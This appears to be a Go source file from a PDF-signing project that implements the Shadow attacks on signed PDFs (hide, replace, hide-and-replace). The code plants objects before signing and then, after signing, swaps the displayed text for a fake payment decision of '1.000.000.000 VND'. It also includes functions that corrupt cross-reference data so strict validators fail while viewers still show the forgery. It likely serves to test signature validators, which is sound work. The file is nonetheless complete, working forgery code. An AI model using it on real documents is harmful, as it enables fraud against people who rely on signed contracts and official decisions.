package tamper

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"strconv"

	"github.com/vanthu/vanthu/signing/pdf"
)

// Shadow attacks (Mainka, Mladenov and Rohlmann, NDSS 2021). The attacker
// prepares the document before it is signed with objects that do not
// change what it shows (PrepareShadow), and after it is signed changes
// what a viewer shows by pointing at them: ShadowHide lists a pre-placed
// opaque annotation over the signed text, ShadowReplace fills a pre-placed
// form field whose widget lies over the signed text with a pre-placed
// appearance, ShadowHideAndReplace points the trailer at a pre-placed
// second catalog whose page says something else. BreakXref and
// ShiftXrefOffsets then damage the attack revision's cross-reference data
// the way that makes a strict reader give up while viewers repair it and
// show the attack.

const shadowMark = "VanthuShadow" // a private key naming each pre-placed object

// PrepareShadow adds the shadow objects to draft as an incremental update
// before signing. Nothing it adds is drawn: the overlay annotation, the
// filled-in appearance and the second catalog are referenced from nowhere,
// and the form field's appearance is empty.
func PrepareShadow(draft []byte) ([]byte, error) {
	l, err := layout(draft)
	if err != nil {
		return nil, err
	}
	u := l.u
	b, err := l.firstText()
	if err != nil {
		return nil, err
	}
	// Hide: an opaque annotation, listed on no page yet.
	overlayAP := u.appearance(b, "1.000.000.000 VND")
	overlay := u.alloc()
	u.set(overlay, fmt.Sprintf("<< /Type /Annot /Subtype /Square /Rect %s /F 4 /P %s /AP << /N %d 0 R >> /%s /overlay >>", rect(b), l.ref, overlayAP, shadowMark))
	// Replace: a text field over the first line, empty and transparent
	// until it is filled with the pre-placed appearance.
	empty := u.alloc()
	u.set(empty, fmt.Sprintf("<< /Type /XObject /Subtype /Form /BBox [0 0 %.2f %.2f] /Length 0 >>\nstream\n\nendstream", b.X2-b.X1, b.Y2-b.Y1))
	filled := u.appearance(b, "1.000.000.000 VND")
	field := u.alloc()
	u.set(field, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (GhiChu) /Rect %s /F 4 /P %s /DA (/Helv 10 Tf 0 g) /AP << /N %d 0 R >> /%s /field /%sAP %d 0 R >>", rect(b), l.ref, empty, shadowMark, shadowMark, filled))
	l.addAnnot(field)
	cat, err := u.dict(u.root)
	if err != nil {
		return nil, err
	}
	if _, has := cat["AcroForm"]; has {
		return nil, errors.New("tamper: the draft already has a form; PrepareShadow expects a plain document")
	}
	form := u.alloc()
	u.set(form, fmt.Sprintf("<< /Fields [%d 0 R] /DA (/Helv 10 Tf 0 g) /DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >> >> >> >>", field))
	// Hide-and-replace: a second catalog and page tree whose page draws
	// other content over the same resources.
	page2 := pdf.Dict{}
	for k, v := range l.page {
		page2[k] = v
	}
	delete(page2, "Annots")
	delete(page2, "StructParents")
	content := u.alloc()
	data := fmt.Sprintf("BT /Helv 14 Tf %.2f %.2f Td (QUYET DINH chi 1.000.000.000 VND) Tj ET", b.X1, b.Y1)
	u.set(content, fmt.Sprintf("<< /Length %d >>\nstream\n%s\nendstream", len(data), data))
	pages2, pageRef2, cat2 := u.alloc(), u.alloc(), u.alloc()
	page2["Contents"] = pdf.Ref{Num: content}
	page2["Parent"] = pdf.Ref{Num: pages2}
	res := pdf.Dict{"Font": pdf.Dict{"Helv": pdf.Dict{"Type": pdf.Name("Font"), "Subtype": pdf.Name("Type1"), "BaseFont": pdf.Name("Helvetica")}}}
	page2["Resources"] = res
	u.set(pageRef2, serialize(page2))
	u.set(pages2, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", pageRef2))
	u.set(cat2, fmt.Sprintf("<< /Type /Catalog /Pages %d 0 R /%s /catalog >>", pages2, shadowMark))
	cat["AcroForm"] = pdf.Ref{Num: form}
	rootRef, ok := u.root.(pdf.Ref)
	if !ok {
		return nil, errors.New("tamper: trailer /Root is not a reference")
	}
	u.set(rootRef.Num, serialize(cat))
	return u.bytes(""), nil
}

// shadowObjects finds the pre-placed objects by their mark.
func shadowObjects(u *update) map[pdf.Name]pdf.Ref {
	out := map[pdf.Name]pdf.Ref{}
	for _, ref := range u.f.Objects(u.last.Index) {
		if d, ok := u.resolve(ref).(pdf.Dict); ok {
			if m, ok := d[shadowMark].(pdf.Name); ok {
				out[m] = ref
			}
		}
	}
	return out
}

func shadowUpdate(signed []byte, want pdf.Name) (*update, pdf.Ref, error) {
	u, err := newUpdate(signed)
	if err != nil {
		return nil, pdf.Ref{}, err
	}
	ref, ok := shadowObjects(u)[want]
	if !ok {
		return nil, pdf.Ref{}, fmt.Errorf("tamper: no pre-placed shadow %s (was the document prepared with PrepareShadow?)", want)
	}
	return u, ref, nil
}

// ShadowHide lists the pre-placed opaque annotation on the first page: the
// signed first line disappears behind "1.000.000.000 VND".
func ShadowHide(signed []byte) ([]byte, error) {
	u, overlay, err := shadowUpdate(signed, "overlay")
	if err != nil {
		return nil, err
	}
	ref, page, err := u.firstPage()
	if err != nil {
		return nil, err
	}
	annots, _ := u.resolve(page["Annots"]).(pdf.Array)
	page["Annots"] = append(append(pdf.Array{}, annots...), overlay)
	u.set(ref.Num, serialize(page))
	return u.bytes(""), nil
}

// ShadowReplace fills the pre-placed field over the first line with the
// pre-placed appearance: to a reader it is form filling, to the eye the
// signed text now reads "1.000.000.000 VND".
func ShadowReplace(signed []byte) ([]byte, error) {
	u, field, err := shadowUpdate(signed, "field")
	if err != nil {
		return nil, err
	}
	d, err := u.dict(field)
	if err != nil {
		return nil, err
	}
	d["V"] = pdf.String("1.000.000.000 VND")
	d["AP"] = pdf.Dict{"N": d[shadowMark+"AP"]}
	u.set(field.Num, serialize(d))
	return u.bytes(""), nil
}

// ShadowHideAndReplace appends only a cross-reference section and a
// trailer whose /Root is the pre-placed second catalog.
func ShadowHideAndReplace(signed []byte) ([]byte, error) {
	u, cat, err := shadowUpdate(signed, "catalog")
	if err != nil {
		return nil, err
	}
	u.root = cat
	return u.bytes(""), nil
}

var startxrefRE = regexp.MustCompile(`startxref\s+(\d+)\s+%%EOF\s*$`)

// BreakXref points the last startxref at the file's header: a strict
// reader cannot find the last cross-reference section; viewers rebuild it.
func BreakXref(in []byte) ([]byte, error) {
	m := startxrefRE.FindSubmatchIndex(in)
	if m == nil {
		return nil, errors.New("tamper: no startxref at the end of the file")
	}
	out := append(bytes.Clone(in[:m[2]]), '0')
	out = append(out, bytes.Repeat([]byte{' '}, m[3]-m[2]-1)...)
	return append(out, in[m[3]:]...), nil
}

var xrefEntryRE = regexp.MustCompile(`(?m)^(\d{10}) (\d{5}) n`)

// ShiftXrefOffsets moves every in-use entry of the last classic
// cross-reference section 3 bytes off its object: the section reads, but
// names no object where it says.
func ShiftXrefOffsets(in []byte) ([]byte, error) {
	x := bytes.LastIndex(in, []byte("\nxref"))
	if x < 0 {
		return nil, errors.New("tamper: no classic cross-reference section")
	}
	tail := in[x:]
	n := 0
	shifted := xrefEntryRE.ReplaceAllFunc(tail, func(e []byte) []byte {
		off, err := strconv.ParseInt(string(e[:10]), 10, 64)
		if err != nil || off == 0 {
			return e
		}
		n++
		return []byte(fmt.Sprintf("%010d%s", off+3, e[10:]))
	})
	if n == 0 {
		return nil, errors.New("tamper: the last cross-reference section has no in-use entries")
	}
	return append(bytes.Clone(in[:x]), shifted...), nil
}
